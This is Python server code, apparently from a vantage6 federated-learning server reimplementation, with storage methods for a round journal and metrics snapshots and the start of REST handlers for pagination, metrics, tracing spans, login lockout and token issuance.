    # before every externally-visible action. Implemented here on the
    # abstract contract in terms of the generic CRUD surface (qmark
    # placeholders, `insert` returning the pk), so any conforming
    # backend — including the future Postgres twin — inherits it
    # contract-tested. Read paths are bounded: recovery touches the
    # OPEN round's rows plus an O(1) tail probe, never the whole
    # federation history (asserted via :class:`StorageStats`).

    def journal_append(self, federation: str, round_no: int, kind: str,
                       payload: str, blob: bytes | None = None) -> int:
        """Append one journal record; returns its monotonically
        increasing id (the total order recovery replays in)."""
        return self.insert(
            "round_journal", federation=federation, round=round_no,
            kind=kind, payload=payload, blob=blob,
            created_at=self.now(),
        )

    def journal_last_round(self, federation: str) -> int | None:
        """Highest round number journaled for ``federation`` (an O(1)
        index-tail probe), or None for an empty journal."""
        row = self.one(
            "SELECT MAX(round) AS r FROM round_journal "
            "WHERE federation=?", (federation,),
        )
        return None if row is None or row["r"] is None else int(row["r"])

    def journal_round(self, federation: str,
                      round_no: int) -> list[dict]:
        """Every record of one round, in append order — O(rows in that
        round) via the (federation, round) index."""
        return self.all(
            "SELECT * FROM round_journal WHERE federation=? AND round=? "
            "ORDER BY id", (federation, round_no),
        )

    def journal_recent(self, federation: str, kind: str,
                       limit: int) -> list[dict]:
        """The newest ``limit`` records of one kind, newest-first —
        bounded history rebuilds (admission norms, org weights) without
        an O(all-rounds) scan."""
        return self.all(
            "SELECT * FROM round_journal WHERE federation=? AND kind=? "
            "ORDER BY id DESC LIMIT ?", (federation, kind, limit),
        )

    def journal_prune(self, federation: str, before_round: int) -> int:
        """Drop records of rounds earlier than ``before_round``
        (retention: closed rounds recoverable from the last close);
        returns rows removed."""
        return self.delete(
            "round_journal", "federation=? AND round<?",
            (federation, before_round),
        )

    # --- metrics snapshots (docs/OBSERVABILITY.md §7) -------------------
    # Last-known registry export per telemetry source (worker process,
    # node daemon), keyed by (source_kind, source_id). Workers persist
    # their own export at scrape/housekeeping/shutdown; node exports
    # arrive as heartbeat deltas. ``GET /metrics?scope=fleet`` merges
    # every stored row, so a dead worker's counters survive as its last
    # persisted snapshot. Implemented on the generic CRUD surface like
    # the journal, so alternative backends inherit it contract-tested.

    def metrics_save(self, source_kind: str, source_id: str,
                     export: dict) -> None:
        """Upsert one source's export (JSON payload, monotonic ``seq``
        for the heartbeat delta protocol)."""
        payload = json.dumps(export)
        seq = int(export.get("seq") or 0)
        with self.transaction():
            n = self.update_where(
                "metrics_snapshot", "source_kind=? AND source_id=?",
                (source_kind, source_id),
                seq=seq, payload=payload, updated_at=self.now(),
            )
            if n == 0:
                self.insert(
                    "metrics_snapshot", source_kind=source_kind,
                    source_id=source_id, seq=seq, payload=payload,
                    updated_at=self.now(),
                )

    def metrics_load(self, source_kind: str,
                     source_id: str) -> dict | None:
        """One source's stored export, or None when it never reported."""
        row = self.one(
            "SELECT payload FROM metrics_snapshot "
            "WHERE source_kind=? AND source_id=?",
            (source_kind, source_id),
        )
        if row is None:
            return None
        try:
            return json.loads(row["payload"])
        except (TypeError, ValueError):
            return None

    def metrics_delete(self, source_kind: str, source_id: str) -> int:
        """Drop one source's stored export (node decommissioned /
        renamed) so it stops contributing to fleet scrapes; returns
        rows removed."""
        return self.delete(
            "metrics_snapshot", "source_kind=? AND source_id=?",
            (source_kind, source_id),
        )

    def metrics_prune(self, before: float) -> int:
        """Reap exports not refreshed since ``before`` (dead worker
        incarnations, long-gone nodes). Live workers re-persist every
        housekeeping tick and nodes every heartbeat, so anything older
        than the retention window is a leftover row that would
        otherwise double-count counters and grow the table without
        bound; returns rows removed."""
        return self.delete("metrics_snapshot", "updated_at < ?",
                           (before,))

    def metrics_all(self) -> list[dict]:
        """Every stored export with freshness metadata attached
        (``_updated_at`` riding outside the schema-versioned body)."""
        out = []
        for row in self.all(
            "SELECT payload, updated_at FROM metrics_snapshot "
            "ORDER BY source_kind, source_id"
        ):
            try:
                exp = json.loads(row["payload"])
            except (TypeError, ValueError):
                continue
            if isinstance(exp, dict):
                exp["_updated_at"] = row["updated_at"]
                out.append(exp)
        return out

    @staticmethod
    def now() -> float:
        return time.time()
