"""REST resources: one section per entity, mirroring the reference's
``vantage6-server/vantage6/server/resource/*.py`` route surface
(SURVEY.md §2.1; task fan-out logic per §3.1 call stack).

All handlers receive the authenticated ``Request`` (identity = JWT
claims) and apply the permission engine before touching the model.
"""

from __future__ import annotations

import base64
import hashlib
import json
import logging
import re
import secrets
import sqlite3
import threading
import time

from vantage6_trn.common import telemetry
from vantage6_trn.common.serialization import blob_to_wire, payload_to_blob
from vantage6_trn.common.globals import (
    EVENT_KILL_TASK,
    EVENT_MODEL_PUBLISHED,
    EVENT_NEW_TASK,
    EVENT_NODE_STATUS,
    EVENT_STATUS_CHANGE,
    IDENTITY_CONTAINER,
    IDENTITY_NODE,
    IDENTITY_REPLICA,
    IDENTITY_USER,
    Operation,
    Scope,
    TaskStatus,
)
from vantage6_trn.server.events import collaboration_room
from vantage6_trn.server.http import HTTPError, Request, Response
from vantage6_trn.server.permission import hash_password, verify_password

log = logging.getLogger(__name__)

VIEW, CREATE, EDIT, DELETE, SEND = (
    Operation.VIEW, Operation.CREATE, Operation.EDIT, Operation.DELETE,
    Operation.SEND,
)


# --- identity helpers -----------------------------------------------------
def _require(req: Request, *types: str) -> dict:
    ident = req.identity or {}
    if ident.get("client_type") not in types:
        raise HTTPError(403, f"endpoint requires identity {types}")
    return ident


def _user_org(app, ident) -> int | None:
    user = app.db.get("user", ident["sub"])
    return user["organization_id"] if user else None


def _visible_orgs(app, ident, resource: str) -> set[int] | None:
    """None = unrestricted (GLOBAL); else set of org ids caller may see."""
    if ident["client_type"] == IDENTITY_USER:
        scope = app.permissions.highest_scope(ident["sub"], resource, VIEW)
        if scope is None:
            raise HTTPError(403, f"missing {resource}|view permission")
        if scope == Scope.GLOBAL:
            return None
        org_id = _user_org(app, ident)
        if scope == Scope.COLLABORATION:
            return app.permissions.orgs_in_same_collaboration(org_id)
        return {org_id} if org_id else set()
    if ident["client_type"] in (IDENTITY_NODE, IDENTITY_CONTAINER):
        return app.permissions.orgs_in_same_collaboration(
            ident["organization_id"]
        )
    raise HTTPError(403, "unknown identity")


def _check_user_perm(app, ident, resource: str, op: Operation,
                     minimal: Scope = Scope.ORGANIZATION) -> None:
    if not app.permissions.allowed(ident["sub"], resource, op, minimal):
        raise HTTPError(
            403, f"missing {resource}|{op.value}@{minimal.value} permission"
        )


#: hard ceiling on one page: an uncapped ?per_page= lets a single
#: request force an O(table) read + serialize (and on the in-memory
#: paginator, a full materialization) — exactly the footgun a fleet's
#: shared store amplifies N-fold
MAX_PER_PAGE = 1000
#: page size when a cursor request names none
DEFAULT_CURSOR_PAGE = 100
#: cursors older than this are refused (400) — the filter snapshot they
#: were minted against is long stale, and an unbounded horizon would
#: make cursors de-facto permanent capability tokens
CURSOR_TTL_S = 24 * 3600


def _page_params(req: Request) -> tuple[int, int]:
    try:
        per_page = int(req.query.get("per_page", 0))
        page = max(1, int(req.query.get("page", 1)))
    except ValueError:
        raise HTTPError(400, "page/per_page must be integers")
    return page, min(per_page, MAX_PER_PAGE)


def _validate_public_key(key: str | None) -> None:
    """Reject unparseable org keys at write time: a garbage key would
    pass presence checks and then fail late — at the node, mid-seal —
    with an opaque error."""
    if key in (None, ""):
        return
    from vantage6_trn.common.encryption import RSACryptor

    if not RSACryptor.verify_public_key(key):
        raise HTTPError(400, "public_key is not a valid base64 DER key")


def _paginate(req: Request, rows: list) -> dict:
    """Reference-style pagination: ?page=&per_page= (defaults: all).
    In-memory slicing — only for small, org-bounded tables (orgs,
    users, collaborations); the unbounded task/run tables paginate in
    SQL via ``_paginate_sql``."""
    total = len(rows)
    page, per_page = _page_params(req)
    if per_page > 0:
        rows = rows[(page - 1) * per_page: page * per_page]
        return {"data": rows,
                "links": {"page": page, "per_page": per_page,
                          "total": total,
                          "pages": (total + per_page - 1) // per_page}}
    return {"data": rows}


def _filter_hash(select_sql: str, conds: list[str], params: list,
                 order: str) -> str:
    """Fingerprint of the query a cursor was minted against. A cursor
    replayed with different filters would silently skip/duplicate rows;
    binding it to the filter set turns that into a loud 400."""
    basis = json.dumps(
        [select_sql, list(conds), [str(p) for p in params], order]
    )
    return hashlib.sha256(basis.encode("utf-8")).hexdigest()[:16]


def _encode_cursor(after_id: int, fhash: str) -> str:
    raw = json.dumps(
        {"a": after_id, "f": fhash, "t": time.time()}
    ).encode("utf-8")
    return base64.urlsafe_b64encode(raw).decode("ascii").rstrip("=")


def _decode_cursor(cursor: str, fhash: str) -> int:
    """Opaque cursor → after-id. Empty string starts from the top.
    Malformed, filter-mismatched, or expired cursors are client errors
    (400) — never a 500 from a decode blowing up mid-handler."""
    if cursor == "":
        return 0
    try:
        pad = "=" * (-len(cursor) % 4)
        obj = json.loads(base64.urlsafe_b64decode(
            cursor.encode("ascii") + pad.encode("ascii")
        ))
        after, got, minted = int(obj["a"]), obj["f"], float(obj["t"])
    except (ValueError, KeyError, TypeError, UnicodeEncodeError):
        raise HTTPError(400, "malformed cursor")
    if got != fhash:
        raise HTTPError(400, "cursor does not match the request filters")
    if time.time() - minted > CURSOR_TTL_S:
        raise HTTPError(400, "cursor expired; restart the listing")
    return after


def _paginate_sql(req: Request, db, select_sql: str, conds: list[str],
                  params: list, order: str = "id") -> dict:
    """SQL-level pagination, two forms — both O(page) rows read:

    * ``?cursor=&per_page=`` — keyset pagination over the id order. The
      page is ``WHERE id > <after> ORDER BY id LIMIT n``: cost is
      O(page) regardless of table size or offset depth, and the cursor
      stays stable under concurrent inserts/deletes (a row is never
      skipped or duplicated by rows shifting around it, which
      LIMIT/OFFSET cannot guarantee). ``links.next_cursor`` carries the
      opaque continuation; its absence means the listing is exhausted.
    * ``?page=&per_page=`` — legacy LIMIT/OFFSET, kept for client
      compatibility. The COUNT(*) query only runs when the caller
      actually gets pagination links it can't get cheaper: it is
      skipped entirely with ``?links=0``, and skipped when the fetched
      page turns out to be the last one (total is derivable from
      offset + rows).
    """
    page, per_page = _page_params(req)
    where = f" WHERE {' AND '.join(conds)}" if conds else ""
    cursor = req.query.get("cursor")
    if cursor is not None:
        if order != "id":
            raise HTTPError(400, "cursor pagination requires id order")
        fhash = _filter_hash(select_sql, conds, params, order)
        after = _decode_cursor(cursor, fhash)
        limit = per_page or DEFAULT_CURSOR_PAGE
        kconds = [*conds, "id > ?"]
        rows = db.all(
            f"{select_sql} WHERE {' AND '.join(kconds)} "
            f"ORDER BY id LIMIT ?",
            (*params, after, limit + 1),  # +1 probes for a next page
        )
        links: dict = {"per_page": limit}
        if len(rows) > limit:
            rows = rows[:limit]
            links["next_cursor"] = _encode_cursor(rows[-1]["id"], fhash)
        return {"data": rows, "links": links}
    if per_page > 0:
        offset = (page - 1) * per_page
        rows = db.all(
            f"{select_sql}{where} ORDER BY {order} LIMIT ? OFFSET ?",
            (*params, per_page + 1, offset),  # +1 probes for a next page
        )
        more = len(rows) > per_page
        rows = rows[:per_page]
        if req.query.get("links") == "0":
            return {"data": rows}
        if not more and rows:
            total = offset + len(rows)  # last page: no COUNT needed
        elif not more and page == 1:
            total = 0                   # empty table under these filters
        else:
            total = db.one(
                f"SELECT COUNT(*) c FROM ({select_sql}{where})", params
            )["c"]
        return {"data": rows,
                "links": {"page": page, "per_page": per_page,
                          "total": total,
                          "pages": (total + per_page - 1) // per_page}}
    return {"data": db.all(f"{select_sql}{where} ORDER BY {order}", params)}


# Legal forward moves of the run lifecycle; anything else is rejected
# (terminal states have no out-edges). Kill/crash may strike at any
# pre-terminal stage.
_RUN_TRANSITIONS: dict[str, set[str]] = {  # noqa: V6L020 - static lifecycle transition table; identical in every worker, never written
    TaskStatus.PENDING.value: {
        TaskStatus.INITIALIZING.value, TaskStatus.ACTIVE.value,
        TaskStatus.FAILED.value, TaskStatus.CRASHED.value,
        TaskStatus.KILLED.value, TaskStatus.NO_RUNTIME.value,
        TaskStatus.NOT_ALLOWED.value,
    },
    TaskStatus.INITIALIZING.value: {
        TaskStatus.ACTIVE.value, TaskStatus.COMPLETED.value,
        TaskStatus.FAILED.value, TaskStatus.CRASHED.value,
        TaskStatus.KILLED.value, TaskStatus.NO_RUNTIME.value,
        TaskStatus.NOT_ALLOWED.value,
    },
    TaskStatus.ACTIVE.value: {
        TaskStatus.COMPLETED.value, TaskStatus.FAILED.value,
        TaskStatus.CRASHED.value, TaskStatus.KILLED.value,
    },
}


def _task_status(app, task_id: int) -> str:
    runs = app.db.all("SELECT status FROM run WHERE task_id=?", (task_id,))
    statuses = {r["status"] for r in runs}
    if not statuses:
        return TaskStatus.PENDING.value
    if any(TaskStatus.has_failed(s) for s in statuses):
        failed = [s for s in statuses if TaskStatus.has_failed(s)]
        return failed[0]
    if statuses == {TaskStatus.COMPLETED.value}:
        return TaskStatus.COMPLETED.value
    if TaskStatus.ACTIVE.value in statuses:
        return TaskStatus.ACTIVE.value
    if TaskStatus.INITIALIZING.value in statuses:
        return TaskStatus.INITIALIZING.value
    return TaskStatus.PENDING.value


def _task_view(app, task: dict, with_runs: bool = False) -> dict:
    out = dict(task)
    out["databases"] = json.loads(task["databases"] or "[]")
    out["status"] = _task_status(app, task["id"])
    if with_runs:
        out["runs"] = app.db.all(
            "SELECT id, task_id, organization_id, status, assigned_at, "
            "started_at, finished_at FROM run WHERE task_id=?",
            (task["id"],),
        )
    return out


def register(app) -> None:  # app: ServerApp
    r = app.http.router
    db = app.db

    # --- binary data plane: blob columns ↔ wire form ---------------------
    # runs store canonical payload blobs (db schema v10); what goes on
    # the wire depends on the peer's negotiated codec and the
    # collaboration's encrypted flag — see common/serialization.py.
    def _task_encrypted(task_ids: set[int]) -> dict[int, bool]:
        if not task_ids:
            return {}
        ph = ",".join("?" * len(task_ids))
        return {
            row["id"]: bool(row["encrypted"]) for row in db.all(
                f"SELECT t.id AS id, c.encrypted AS encrypted FROM task t "
                f"JOIN collaboration c ON c.id = t.collaboration_id "
                f"WHERE t.id IN ({ph})", tuple(task_ids),
            )
        }

    def _runs_out(rows: list[dict], req: Request,
                  strip_input: bool = True) -> list[dict]:
        rows = [dict(x) for x in rows]
        if strip_input:
            for x in rows:
                x.pop("input", None)
        enc = _task_encrypted({
            x["task_id"] for x in rows
            if x.get("input") is not None or x.get("result") is not None
        })
        for x in rows:
            for col in ("input", "result"):
                if x.get(col) is not None:
                    x[col] = blob_to_wire(x[col], enc.get(x["task_id"], False),
                                          req.accepts_binary)
        return rows

    def _run_out(run: dict, req: Request, strip_input: bool = True) -> dict:
        return _runs_out([run], req, strip_input)[0]

    # ==================== misc ====================
    @r.route("GET", "/health")
    def health(req):
        """Liveness probe. ``worker`` names this process's metrics
        source id — the ``worker=…`` label its series carry in
        ``GET /metrics?scope=fleet`` (docs/OBSERVABILITY.md §7)."""
        return 200, {"status": "ok", "worker": app.worker_id}

    @r.route("GET", "/version")
    def version(req):
        return 200, {"version": app.version}

    @r.route("GET", "/spec")
    def openapi_spec(req):
        """OpenAPI 3.0 description of the REST surface, generated from
        the route table + handler docstrings — the machine-checkable
        statement of API parity a UI (reference: Angular SPA) builds
        against."""
        import re as _re

        paths: dict[str, dict] = {}
        for method, pattern, handler in r.route_specs:
            oa_path = _re.sub(r"<(\w+)>", r"{\1}", pattern)
            doc = (handler.__doc__ or "").strip()
            summary = doc.split("\n", 1)[0] if doc else handler.__name__
            op = {
                "operationId": handler.__name__,
                "summary": summary,
            }
            if doc:
                op["description"] = doc
            params = _re.findall(r"<(\w+)>", pattern)
            if params:
                op["parameters"] = [
                    {"name": p, "in": "path", "required": True,
                     "schema": {"type": "integer"}}
                    for p in params
                ]
            op["responses"] = {"200": {"description": "success"}}
            if pattern not in app_open_endpoints():
                op["security"] = [{"bearerAuth": []}]
            paths.setdefault(oa_path, {})[method.lower()] = op
        return 200, {
            "openapi": "3.0.3",
            "info": {"title": "vantage6-trn server API",
                     "version": app.version},
            "servers": [{"url": app.api_path}],
            "components": {"securitySchemes": {"bearerAuth": {
                "type": "http", "scheme": "bearer",
                "bearerFormat": "JWT",
            }}},
            "paths": paths,
        }

    def app_open_endpoints():
        from vantage6_trn.server.app import OPEN_ENDPOINTS

        return OPEN_ENDPOINTS

    @r.route("GET", "/metrics")
    def metrics(req):
        """Observability beyond the reference (SURVEY.md §5.5): Prometheus
        text exposition by default (docs/OBSERVABILITY.md), the legacy
        JSON summary for ``Accept: application/json`` callers."""
        _require(req, IDENTITY_USER)
        runs_by_status = {
            row["status"]: row["c"] for row in db.all(
                "SELECT status, COUNT(*) c FROM run GROUP BY status"
            )
        }
        tasks = db.one("SELECT COUNT(*) c FROM task")["c"]
        nodes_online = db.one(
            "SELECT COUNT(*) c FROM node WHERE status='online'"
        )["c"]
        nodes_total = db.one("SELECT COUNT(*) c FROM node")["c"]
        accept = req.headers.get("accept", "")
        if "application/json" in accept and \
                req.query.get("scope") != "fleet":
            finished = db.all(
                "SELECT started_at, finished_at FROM run WHERE "
                "status='completed' AND started_at IS NOT NULL AND "
                "finished_at IS NOT NULL ORDER BY id DESC LIMIT 100"
            )
            durations = [
                x["finished_at"] - x["started_at"] for x in finished
            ]
            return 200, {
                "tasks": tasks,
                "runs_by_status": runs_by_status,
                "nodes_online": nodes_online,
                "nodes_total": nodes_total,
                "last_event_id": app.events.last_id,
                "run_duration_s": {
                    "recent_mean": (
                        round(sum(durations) / len(durations), 4)
                        if durations else None
                    ),
                    "samples": len(durations),
                },
            }
        # DB-derived gauges are refreshed at scrape time: the registry
        # only ever sees the latest truth, not a drifting counter
        g_tasks = app.metrics.gauge("v6_tasks", "tasks in the database")
        g_tasks.set(tasks)
        g_runs = app.metrics.gauge("v6_runs", "runs by status")
        for status, c in runs_by_status.items():
            g_runs.set(c, status=status)
        g_nodes = app.metrics.gauge("v6_nodes", "nodes by liveness")
        g_nodes.set(nodes_online, state="online")
        g_nodes.set(nodes_total - nodes_online, state="offline")
        app.metrics.gauge(
            "v6_events_last_id", "highest event id on the bus"
        ).set(app.events.last_id)
        # Exemplars are only legal in the OpenMetrics exposition — the
        # classic 0.0.4 parser fails the whole scrape on them — so the
        # annotated body must be explicitly negotiated via Accept.
        om = telemetry.wants_openmetrics(accept)
        ctype = (telemetry.OPENMETRICS_CONTENT_TYPE if om
                 else telemetry.PROM_CONTENT_TYPE)
        if req.query.get("scope") == "fleet":
            body = _fleet_metrics(req, openmetrics=om)
            if isinstance(body, dict):
                return 200, body
            return Response(200, body.encode("utf-8"), content_type=ctype)
        # The response is rendered FROM the persisted export, not from
        # the live registries a second time: what this worker stored is
        # byte-for-byte what it served, so fleet-scope totals bit-match
        # sums of per-worker scrapes (docs/OBSERVABILITY.md §7).
        export = app.persist_metrics()
        text = telemetry.render_export(export, openmetrics=om)
        return Response(200, text.encode("utf-8"), content_type=ctype)

    def _fleet_metrics(req, openmetrics=False):
        """One pane of glass over the whole federation: merge every
        persisted worker + node export (``worker``/``node`` labels;
        counters sum, gauges max-merge, histograms add bucket-wise).
        Dead sources keep contributing their last persisted snapshot —
        a fleet scrape must degrade, never 5xx. Returns the dashboard
        dict (JSON accept) or the Prometheus text body (the handler
        owns the explicit status/Response, V6L005)."""
        app.persist_metrics()  # this worker's contribution is fresh
        exports = app.db.metrics_all()
        sources = []
        now = time.time()
        for exp in exports:
            src = exp.get("source") or {}
            updated = exp.pop("_updated_at", None)
            sources.append({
                "kind": src.get("kind"), "id": src.get("id"),
                "seq": exp.get("seq", 0),
                "captured_at": exp.get("captured_at"),
                "age_s": (round(now - updated, 3)
                          if isinstance(updated, (int, float)) else None),
            })
        merged = telemetry.merge_exports(exports)
        if "application/json" in req.headers.get("accept", ""):
            nodes = db.all(
                "SELECT id, name, status, last_seen FROM node ORDER BY id"
            )
            for n in nodes:
                seen = n.pop("last_seen", None)
                n["heartbeat_age_s"] = (
                    round(now - seen, 3)
                    if isinstance(seen, (int, float)) else None
                )
            return {
                "scope": "fleet",
                "workers": [s for s in sources if s["kind"] == "worker"],
                "nodes": nodes,
                "sources": sources,
                "samples": merged.snapshot(),
            }
        return telemetry.render_prometheus(merged, openmetrics=openmetrics)

    @r.route("GET", "/debug/flight")
    def debug_flight(req):
        """Live view of this worker's flight-recorder ring (the same
        events a crash file would contain) — the first stop when a
        fleet member is misbehaving but has not crashed yet."""
        _require(req, IDENTITY_USER)
        rec = telemetry.FLIGHT
        return 200, {
            "proc": telemetry.PROC_ID,
            "capacity": rec.capacity,
            "enabled": rec.enabled,
            "events": rec.events(),
        }

    # --- span ingestion + timelines (docs/OBSERVABILITY.md) --------------
    _SPAN_FIELDS = ("trace_id", "span_id", "parent_id", "name", "component",
                    "task_id", "run_id", "start", "duration_ms", "status")

    def _record_span(rec: dict) -> None:
        """Insert one span record; duplicates (idempotent replays,
        re-sent heartbeat batches) are dropped on the unique span_id."""
        row = {k: rec.get(k) for k in _SPAN_FIELDS}
        if not (row["trace_id"] and row["span_id"] and row["name"]):
            return
        attrs = {k: v for k, v in rec.items()
                 if k not in _SPAN_FIELDS and isinstance(
                     v, (str, int, float, bool, type(None)))}
        try:
            db.execute(
                "INSERT OR IGNORE INTO span (trace_id, span_id, parent_id,"
                " name, component, task_id, run_id, start, duration_ms,"
                " status, attrs, created_at) VALUES "
                "(?,?,?,?,?,?,?,?,?,?,?,?)",
                (str(row["trace_id"])[:64], str(row["span_id"])[:64],
                 str(row["parent_id"])[:64] if row["parent_id"] else None,
                 str(row["name"])[:128],
                 str(row["component"])[:64] if row["component"] else None,
                 row["task_id"], row["run_id"],
                 float(row["start"] or 0.0),
                 row["duration_ms"], row["status"],
                 json.dumps(attrs) if attrs else None, time.time()),
            )
        except (TypeError, ValueError, sqlite3.Error):
            log.debug("dropped malformed span record", exc_info=True)

    def _ingest_spans(spans) -> int:
        if not isinstance(spans, list):
            return 0
        n = 0
        for rec in spans[:500]:  # bound one request's ingest batch
            if isinstance(rec, dict):
                _record_span(rec)
                n += 1
        if n:
            app.metrics.counter(
                "v6_spans_ingested_total",
                "span records accepted from nodes",
            ).inc(n)
        return n

    def _server_span(name: str, req: Request, **attrs) -> None:
        """Record a server-side span as a child of the request's trace
        context (no-op when the caller sent no X-V6-Trace header)."""
        ctx = telemetry.current_trace() or req.trace
        if ctx is None:
            return
        child = telemetry.child_span(ctx)
        _record_span({
            "trace_id": child.trace_id, "span_id": child.span_id,
            "parent_id": child.parent_id, "name": name,
            "component": "server", "start": time.time(),
            "duration_ms": None, "status": "ok", **attrs,
        })

    @r.route("GET", "/task/<task_id>/timeline")
    def task_timeline(req):
        """Span tree for a task: every span of every trace that touched
        the task, ordered by start time; clients rebuild the tree from
        parent_id links (dangling parents are client-side spans that
        were never uploaded — render them as roots)."""
        _require(req, IDENTITY_USER)
        task = db.get("task", int(req.params["task_id"]))
        if not task:
            raise HTTPError(404, "no such task")
        rows = db.all(
            "SELECT trace_id, span_id, parent_id, name, component,"
            " task_id, run_id, start, duration_ms, status, attrs"
            " FROM span WHERE trace_id IN"
            " (SELECT DISTINCT trace_id FROM span WHERE task_id=?)"
            " ORDER BY start, id",
            (task["id"],),
        )
        spans = []
        for x in rows:
            x = dict(x)
            x["attrs"] = json.loads(x["attrs"]) if x["attrs"] else {}
            spans.append(x)
        return 200, {
            "task_id": task["id"],
            "trace_ids": sorted({x["trace_id"] for x in spans}),
            "spans": spans,
        }

    # ==================== tokens ====================
    # Online brute-force protection (reference blocks accounts after max
    # failed attempts): after MAX_FAILED_LOGINS consecutive failures —
    # wrong password OR wrong TOTP code — the account is locked for
    # LOCKOUT_SECONDS from the most recent pre-lock failure. Attempts
    # during the lockout are rejected before any credential check and do
    # not extend it; once the window expires the counter resets, so
    # re-locking always takes MAX_FAILED_LOGINS fresh failures (a slow
    # drip of wrong passwords cannot hold an account locked forever).
    MAX_FAILED_LOGINS = 5
    LOCKOUT_SECONDS = 60.0

    def _login_failure(user) -> None:
        db.update("user", user["id"],
                  failed_logins=(user["failed_logins"] or 0) + 1,
                  last_failed_login=time.time())

    def _check_lockout(user) -> None:
        """429 while the account is locked; reset an expired window.
        Shared by every endpoint that verifies a password, so recovery
        routes cannot be used to brute-force around the login lockout."""
        if not user or (user["failed_logins"] or 0) < MAX_FAILED_LOGINS:
            return
        remaining = (user["last_failed_login"] or 0) + \
            LOCKOUT_SECONDS - time.time()
        if remaining > 0:
            # NB: do not touch last_failed_login here — attempts made
            # *during* the lockout (rejected before any credential
            # check) must not extend it, or an attacker could hold any
            # account locked forever by hammering it
            raise HTTPError(
                429, "account temporarily locked after repeated "
                     "failed logins; try again later"
            )
        # window expired: start a fresh count, so one stray failure
        # per minute can never keep re-locking the account
        db.update("user", user["id"], failed_logins=0)
        user["failed_logins"] = 0

    # burned when the username does not exist so response timing does
    # not reveal which usernames are real (PBKDF2 is deliberately slow)
    _DUMMY_HASH = hash_password(secrets.token_hex(8))

    # per-(account, kind) cooldown so the open recovery endpoints cannot
    # mail-bomb a victim; delivery runs off-thread so response timing
    # does not reveal whether a mail was sent
    _mail_last_sent: dict[tuple, float] = {}
    MAIL_COOLDOWN_S = 60.0

    def _send_mail_async(kind: str, user: dict, send_fn, *args) -> None:
        key = (user["id"], kind)
        now = time.time()
        if now - _mail_last_sent.get(key, 0.0) < MAIL_COOLDOWN_S:
            return
        _mail_last_sent[key] = now

        def _deliver():
            try:
                send_fn(*args)
            except Exception:
                log.exception("%s mail delivery failed", kind)

        threading.Thread(target=_deliver, daemon=True,
                         name=f"v6trn-mail-{kind}").start()

    @r.route("POST", "/token/user")
    def token_user(req):
        from vantage6_trn.common import totp as v6totp

        body = req.body or {}
        user = db.one("SELECT * FROM user WHERE username=?",
                      (body.get("username"),))
        _check_lockout(user)
        if not user or not verify_password(body.get("password", ""),
                                           user["password_hash"]):
            if user:
                _login_failure(user)
            raise HTTPError(401, "invalid username or password")
        if user["otp_enabled"]:
            if not v6totp.verify(user["otp_secret"],
                                 str(body.get("mfa_code", ""))):
                _login_failure(user)  # MFA guesses count toward lockout
                raise HTTPError(401, "invalid or missing mfa_code")
        db.update("user", user["id"], last_login=time.time(), failed_logins=0)
        return 200, {
            "access_token": app.user_token(user["id"]),
            "user": {
                "id": user["id"],
                "username": user["username"],
                "organization_id": user["organization_id"],
            },
        }

    @r.route("POST", "/token/node")
    def token_node(req):
        body = req.body or {}
        node = db.one("SELECT * FROM node WHERE api_key=?",
                      (body.get("api_key"),))
        if not node:
            raise HTTPError(401, "invalid api key")
        db.update("node", node["id"], status="online", last_seen=time.time())
        app.events.emit(
            EVENT_NODE_STATUS,
            {"node_id": node["id"], "status": "online"},
            [collaboration_room(node["collaboration_id"])],
        )
        collab = db.get("collaboration", node["collaboration_id"])
        return 200, {
            "access_token": app.node_token(node),
            "node": {
                "id": node["id"],
                "name": node["name"],
                "organization_id": node["organization_id"],
                "collaboration_id": node["collaboration_id"],
                "encrypted": bool(collab["encrypted"]),
            },
        }

    @r.route("GET", "/relay/feed")
    def relay_feed(req):
        """Peer-replica event feed (multi-host HA fan-out — the
        RabbitMQ-bridge role): all locally-originated events past the
        caller's cursor, rooms included. Replica identity only."""
        _require(req, IDENTITY_REPLICA)
        since = int(req.query.get("since", 0))
        timeout = min(float(req.query.get("timeout", 10.0)), 25.0)
        events, last = app.events.poll_locals(since, timeout)
        return 200, {"data": events, "last_id": last,
                # pullers detect retention gaps (oldest_id) and history
                # resets (head_id BELOW their cursor — last_id can't
                # signal that: poll_locals never returns less than
                # `since`)
                "oldest_id": app.events.oldest_id,
                "head_id": app.events.last_id}

    @r.route("POST", "/token/vouch")
    def token_vouch(req):
        """Mint an audience-scoped (aud=store) introspection-only token
        for presenting this identity to a linked algorithm store.
        Requires a normal session token; the vouch token itself cannot
        mint further vouch tokens (middleware rejects aud-scoped tokens
        everywhere but /user/current)."""
        ident = _require(req, IDENTITY_USER)
        return 200, {"vouch_token": app.vouch_token(ident["sub"])}

    @r.route("POST", "/token/container")
    def token_container(req):
        ident = _require(req, IDENTITY_NODE)
        body = req.body or {}
        task = db.get("task", int(body.get("task_id", 0)))
        if not task:
            raise HTTPError(404, "no such task")
        if task["collaboration_id"] != ident["collaboration_id"]:
            raise HTTPError(403, "task outside node's collaboration")
        return 200, {
            "container_token": app.container_token(
                ident, task, body.get("image", task["image"])
            )
        }

    # ==================== organization ====================
    @r.route("GET", "/organization")
    def org_list(req):
        ident = req.identity
        conds, params = [], []
        visible = _visible_orgs(app, ident, "organization")
        if visible is not None:
            if not visible:
                conds.append("1=0")
            else:
                conds.append(f"id IN ({','.join('?' * len(visible))})")
                params.extend(sorted(visible))
        if "ids" in req.query:
            # batched point lookup (?ids=1,2,3): one round trip where
            # sealing clients used to GET /organization/<id> per org of
            # a fan-out; unknown/invisible ids are silently absent so
            # the caller can distinguish "no such org" from "no key"
            try:
                wanted = {int(x) for x in req.query["ids"].split(",")
                          if x.strip()}
            except ValueError:
                raise HTTPError(400, "ids must be a comma-separated "
                                     "list of integers")
            if not wanted:
                conds.append("1=0")
            else:
                conds.append(f"id IN ({','.join('?' * len(wanted))})")
                params.extend(sorted(wanted))
        payload = _paginate_sql(req, db, "SELECT * FROM organization",
                                conds, params)
        # ETag over the exact response view (visibility + filters
        # included): pubkey fetches before every fan-out revalidate with
        # If-None-Match and take a 304 instead of re-downloading keys
        etag = '"' + hashlib.sha256(
            json.dumps(payload, sort_keys=True).encode("utf-8")
        ).hexdigest()[:32] + '"'
        if req.headers.get("if-none-match") == etag:
            return Response(304, content_type="application/json",
                            headers={"ETag": etag, "X-V6-Bin": "1"})
        req.respond_header("ETag", etag)
        return 200, payload

    @r.route("POST", "/organization")
    def org_create(req):
        ident = _require(req, IDENTITY_USER)
        _check_user_perm(app, ident, "organization", CREATE, Scope.GLOBAL)
        body = req.body or {}
        if not body.get("name"):
            raise HTTPError(400, "name required")
